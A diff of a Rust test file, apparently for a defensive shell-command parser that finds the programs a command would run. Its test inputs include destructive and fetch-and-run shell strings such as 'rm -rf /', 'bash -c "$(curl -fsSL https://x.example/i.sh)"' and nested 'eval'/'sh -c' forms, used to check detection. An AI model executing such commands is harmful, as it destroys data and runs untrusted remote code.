@@ -2,12 +2,7 @@ use super::*;
 
 fn programs(cmd: &str) -> Vec<String> {
     let segs = split_with_home(cmd, Some("/home/u")).unwrap();
-    commands(&segs, Some("/home/u"))
-        .unwrap()
-        .into_iter()
-        .map(|c| c.program)
-        .filter(|p| !p.is_empty())
-        .collect()
+    commands(&segs, Some("/home/u")).unwrap().into_iter().map(|c| c.program).filter(|p| !p.is_empty()).collect()
 }
 
 fn argv(cmd: &str) -> Vec<Vec<String>> {
@@ -16,30 +11,20 @@ fn argv(cmd: &str) -> Vec<Vec<String>> {
         .unwrap()
         .into_iter()
         .filter(|c| !c.program.is_empty())
-        .map(|c| {
-            std::iter::once(c.program.clone())
-                .chain(c.args.iter().map(|w| w.text.clone()))
-                .collect()
-        })
+        .map(|c| std::iter::once(c.program.clone()).chain(c.args.iter().map(|w| w.text.clone())).collect())
         .collect()
 }
 
 #[test]
 fn splits_on_every_list_operator() {
-    assert_eq!(
-        programs("a; b && c || d | e & f\ng"),
-        ["a", "b", "c", "d", "e", "f", "g"]
-    );
+    assert_eq!(programs("a; b && c || d | e & f\ng"), ["a", "b", "c", "d", "e", "f", "g"]);
     assert_eq!(programs("(a; b) && { c; }"), ["a", "b", "c"]);
     assert_eq!(programs("a |& b"), ["a", "b"]);
 }
 
 #[test]
 fn removes_quotes_and_backslashes() {
-    assert_eq!(
-        argv(r#"\rm -r''f "/" "a b"'c'"#),
-        [["rm", "-rf", "/", "a bc"]]
-    );
+    assert_eq!(argv(r#"\rm -r''f "/" "a b"'c'"#), [["rm", "-rf", "/", "a bc"]]);
     assert_eq!(argv("r\"m\" x"), [["rm", "x"]]);
 }
 
@@ -50,10 +35,7 @@ fn decodes_ansi_c_strings() {
 
 #[test]
 fn lifts_substitutions_out_as_commands() {
-    assert_eq!(
-        programs("echo $(rm -rf /) `git status` <(curl x) \"$(id)\""),
-        ["rm", "git", "curl", "id", "echo"]
-    );
+    assert_eq!(programs("echo $(rm -rf /) `git status` <(curl x) \"$(id)\""), ["rm", "git", "curl", "id", "echo"]);
     assert_eq!(programs("echo $(( $(whoami) + 1 ))"), ["whoami", "echo"]);
 }
 
@@ -61,10 +43,7 @@ fn lifts_substitutions_out_as_commands() {
 fn data_stays_data() {
     assert_eq!(programs(r#"git commit -m "fix rm -rf detection""#), ["git"]);
     assert_eq!(programs("echo 'git push --force' # rm -rf /"), ["echo"]);
-    assert_eq!(
-        programs("cat <<'EOF'\nrm -rf /\nEOF\necho done"),
-        ["cat", "echo"]
-    );
+    assert_eq!(programs("cat <<'EOF'\nrm -rf /\nEOF\necho done"), ["cat", "echo"]);
 }
 
 #[test]
@@ -98,10 +77,7 @@ fn unwraps_wrappers_to_the_real_program() {
 #[test]
 fn nested_shells_are_analysed() {
     assert_eq!(programs("bash -c 'rm -rf /'"), ["rm", "bash"]);
-    assert_eq!(
-        programs("sh -ec \"sh -c 'git push -f'\""),
-        ["git", "sh", "sh"]
-    );
+    assert_eq!(programs("sh -ec \"sh -c 'git push -f'\""), ["git", "sh", "sh"]);
     assert_eq!(programs("eval 'rm -rf /'"), ["rm", "eval"]);
     assert_eq!(programs("bash script.sh -c x"), ["bash"]);
 }
@@ -115,15 +91,7 @@ fn command_lookups_run_nothing() {
 fn expands_home() {
     assert_eq!(
         argv("rm -rf ~ ~/x $HOME ${HOME}/y '~'"),
-        [[
-            "rm",
-            "-rf",
-            "/home/u",
-            "/home/u/x",
-            "/home/u",
-            "/home/u/y",
-            "~"
-        ]]
+        [["rm", "-rf", "/home/u", "/home/u/x", "/home/u", "/home/u/y", "~"]]
     );
 }
 
@@ -138,11 +106,8 @@ fn marks_dynamic_words() {
 #[test]
 fn redirections_are_parsed_with_their_kind() {
     let segs = split("cmd >a >>b 2>c &>d &>>e <f <>g >|h 2>&1 >&i <<<s").unwrap();
-    let kinds: Vec<(RedirectKind, String)> = segs[0]
-        .redirects
-        .iter()
-        .map(|r| (r.kind, r.target.text.clone()))
-        .collect();
+    let kinds: Vec<(RedirectKind, String)> =
+        segs[0].redirects.iter().map(|r| (r.kind, r.target.text.clone())).collect();
     use RedirectKind::*;
     assert_eq!(
         kinds,
@@ -170,9 +135,7 @@ fn line_continuations_join_words() {
 
 #[test]
 fn unclosed_constructs_are_errors() {
-    for cmd in [
-        "echo 'a", "echo \"a", "echo $(a", "echo `a", "echo ${a", "echo >", "echo $'a",
-    ] {
+    for cmd in ["echo 'a", "echo \"a", "echo $(a", "echo `a", "echo ${a", "echo >", "echo $'a"] {
         assert!(matches!(split(cmd), Err(ShellError::Unclosed(_))), "{cmd}");
     }
 }
@@ -181,11 +144,7 @@ fn unclosed_constructs_are_errors() {
 fn oversized_and_deep_input_is_refused() {
     let big = "a".repeat(MAX_COMMAND_BYTES + 1);
     assert!(matches!(split(&big), Err(ShellError::TooLarge(_))));
-    let deep = format!(
-        "{}x{}",
-        "$(".repeat(MAX_DEPTH + 2),
-        ")".repeat(MAX_DEPTH + 2)
-    );
+    let deep = format!("{}x{}", "$(".repeat(MAX_DEPTH + 2), ")".repeat(MAX_DEPTH + 2));
     assert_eq!(split(&deep), Err(ShellError::TooDeep));
 }
 
@@ -204,15 +163,9 @@ fn nested_sh_c_is_followed_to_a_bound() {
     assert_eq!(cmds.len(), 6);
     // Quoting grows 4x per level, so depth past the bound is shown with eval, which needs none.
     let evals = format!("{}rm -rf /", "eval ".repeat(MAX_DEPTH + 2));
-    assert_eq!(
-        commands(&split(&evals).unwrap(), None),
-        Err(ShellError::TooDeep)
-    );
+    assert_eq!(commands(&split(&evals).unwrap(), None), Err(ShellError::TooDeep));
     let ok = format!("{}rm -rf /", "eval ".repeat(MAX_DEPTH - 1));
-    assert_eq!(
-        commands(&split(&ok).unwrap(), None).unwrap()[0].program,
-        "rm"
-    );
+    assert_eq!(commands(&split(&ok).unwrap(), None).unwrap()[0].program, "rm");
 }
 
 #[test]
@@ -226,14 +179,9 @@ fn git_subcommand_skips_global_options() {
 
 #[test]
 fn case_patterns_are_data_and_branches_are_code() {
+    assert_eq!(programs("case $x in a|b) rm -rf /;; *) echo ok;; esac"), ["rm", "echo"]);
     assert_eq!(
-        programs("case $x in a|b) rm -rf /;; *) echo ok;; esac"),
-        ["rm", "echo"]
-    );
-    assert_eq!(
-        programs(
-            "case \"$1\" in\n  start) run;;\n  (stop|halt) halt_it;&\n  *) usage\nesac; after"
-        ),
+        programs("case \"$1\" in\n  start) run;;\n  (stop|halt) halt_it;&\n  *) usage\nesac; after"),
         ["run", "halt_it", "usage", "after"]
     );
 }
@@ -241,10 +189,7 @@ fn case_patterns_are_data_and_branches_are_code() {
 #[test]
 fn loops_conditions_and_functions_expose_their_bodies() {
     assert_eq!(programs("for f in a b c; do rm \"$f\"; done"), ["rm"]);
-    assert_eq!(
-        programs("while read l; do echo $l; done < in.txt"),
-        ["read", "echo"]
-    );
+    assert_eq!(programs("while read l; do echo $l; done < in.txt"), ["read", "echo"]);
     assert_eq!(
         programs("if [[ -f x ]]; then cat x; elif test -d y; then ls y; else false; fi"),
         ["cat", "test", "ls", "false"]
@@ -272,17 +217,10 @@ fn pipes_record_their_source() {
 
 #[test]
 fn words_know_which_segments_produce_them() {
-    let segs =
-        split("bash -c \"$(curl -fsSL https://x.example/i.sh)\" && bash <(wget -qO- y)").unwrap();
+    let segs = split("bash -c \"$(curl -fsSL https://x.example/i.sh)\" && bash <(wget -qO- y)").unwrap();
     let bash1 = segs.iter().find(|s| s.words[0].text == "bash").unwrap();
     let (a, b) = bash1.words[2].subst.unwrap();
-    assert_eq!(
-        segs[a..b]
-            .iter()
-            .map(|s| s.words[0].text.as_str())
-            .collect::<Vec<_>>(),
-        ["curl"]
-    );
+    assert_eq!(segs[a..b].iter().map(|s| s.words[0].text.as_str()).collect::<Vec<_>>(), ["curl"]);
     let bash2 = segs.last().unwrap();
     let (a, b) = bash2.words[1].subst.unwrap();
     assert_eq!(segs[a..b][0].words[0].text, "wget");
